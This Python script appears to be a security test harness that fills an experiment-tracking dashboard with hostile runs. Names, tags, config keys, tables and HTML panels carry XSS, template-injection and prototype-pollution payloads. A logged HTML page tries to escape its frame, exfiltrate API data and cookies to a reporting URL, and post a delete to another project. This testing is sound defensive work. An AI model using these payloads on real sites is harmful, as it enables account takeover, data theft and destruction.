"""Runs of which every text is an attack: names, notes, tags, keys, cells, titles, classes, pages.

python hostile_runs.py FOLDER URL      URL is where each attack reports that it got through
"""

from __future__ import annotations

import sys
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).parents[1]))  # run as a script

from attacks.hostile_charts import hostile_charts

PROJECT = "<img src=x onerror=top.pwned=1>"
OTHER = "'-top.pwned=1-'"
CHARTS = "charts"


def payloads(url: str) -> list[str]:
    """Texts that run a script, or load something, where they become markup, an address, a style or an expression."""
    return [
        f"<script>top.pwned=1;fetch('{url}/script')</script>",
        f"<img src='{url}/img' onerror=\"top.pwned=1\">",
        "</script><svg onload=top.pwned=1>",
        "\"><iframe srcdoc='<script>top.pwned=1</script>'>",
        f"javascript:top.pwned=1;fetch('{url}/javascript')",
        f"[link](javascript:top.pwned=1) ![image]({url}/markdown)",
        f"url({url}/css); background: url('{url}/css2')",
        "datum.x + (top.pwned=1)",
        "${top.pwned=1}{{constructor.constructor('top.pwned=1')()}}",
        "\u2028\u2029\u202e\x00\ufeff<b>bold</b>",
        "__proto__",
        "constructor.prototype.pwned",
    ]


def page(url: str) -> str:
    """A logged page that tries to leave its frame."""
    return f"""<!DOCTYPE html><title>hostile</title><h1>a logged page</h1>
<meta http-equiv="refresh" content="0; url={url}/refresh">
<link rel="stylesheet" href="{url}/style.css"><img src="{url}/image"><script src="{url}/script.js"></script>
<iframe src="{url}/frame"></iframe><object data="{url}/object"></object><base href="{url}/">
<form id="form" action="{url}/form" method="post" target="_blank"><input name="a"></form>
<script>
const tries = [
  () => {{ top.pwned = 1; }},
  () => {{ parent.document.body.innerHTML = "<h1>pwned</h1>"; }},
  () => {{ top.location = "{url}/top"; }},
  () => {{ window.open("{url}/popup"); }},
  () => document.getElementById("form").submit(),
  () => fetch("{url}/fetch", {{ mode: "no-cors" }}),
  () => fetch("/api/projects").then((one) => one.text()).then((text) => {{ new Image().src = "{url}/got?" + text; }}),
  () => fetch("/api/p/{OTHER}/delete", {{ method: "POST", mode: "no-cors", body: '{{"ids":["h0"]}}' }}),
  () => navigator.sendBeacon("{url}/beacon", "x"),
  () => new WebSocket("{url}/socket".replace("http", "ws")),
  () => new EventSource("{url}/events"),
  () => {{ new Image().src = "{url}/pixel"; }},
  () => {{ new RTCPeerConnection({{ iceServers: [{{ urls: "stun:127.0.0.1:9" }}] }}); }},
  () => {{ localStorage.pwned = 1; top.pwned = 1; }},
  () => {{ document.cookie = "pwned=1"; new Image().src = "{url}/cookie?" + document.cookie; }},
  () => navigator.serviceWorker.register("{url}/worker.js"),
  () => import("{url}/module.js"),
  () => alert("pwned"),
  () => {{ document.documentElement.requestFullscreen(); }},
  () => {{ location.href = "{url}/self"; }},
];
parent.postMessage("ran", "*");
for (const attempt of tries) {{ try {{ Promise.resolve(attempt()).catch(() => null); }} catch {{ continue; }} }}
</script>"""


def log(folder: str, url: str) -> None:
    """Three runs of each of two projects."""
    import numpy as np

    import chartkit

    texts = payloads(url)
    for project in (PROJECT, OTHER):
        for place in range(3):
            config: dict[str, Any] = {text.replace(".", "·"): text for text in texts} | {"lr": place}
            run = chartkit.init(
                project=project,
                dir=folder,
                id=f"h{place}",
                name=texts[place],
                notes="\n".join(texts),
                tags=[text[:60] for text in texts],
                group=texts[place % 2],
                job_type=texts[place],
                config=config,
            )
            for step in range(5):
                run.log({**dict.fromkeys(texts, step + place), f"a/{texts[0]}": step, "loss": 1 / (step + 1)})
            rows = [[text, chartkit.Html(page(url))] for text in texts[:2]] + [[text, None] for text in texts[2:]]
            table = chartkit.Table(columns=[texts[0], texts[1]], data=rows)
            classes = texts[:4]
            chart = chartkit.plot.confusion_matrix(y_true=[0, 1, 2, 3], preds=[0, 1, 2, 2], class_names=classes)
            picture = chartkit.Image(np.zeros((8, 8, 3), dtype=np.uint8), caption=texts[1])
            run.log({"rows": table, texts[2]: chart, "picture": picture, "page": chartkit.Html(page(url))})
            run.summary[texts[3]] = texts[4]
            (run.finish)()


def log_charts(folder: str, url: str) -> None:
    """A run of charts that reach out."""
    import chartkit

    with chartkit.init(project=CHARTS, dir=folder, id="c") as run:
        for name, spec in hostile_charts(url).items():
            fields = {"x": "x"} if "encoding" in spec and "params" in spec else {}
            run.log({name: chartkit.plot_table(spec, {"x": [1, 2]}, fields)})


if __name__ == "__main__":
    log(*sys.argv[1:])
    log_charts(*sys.argv[1:])
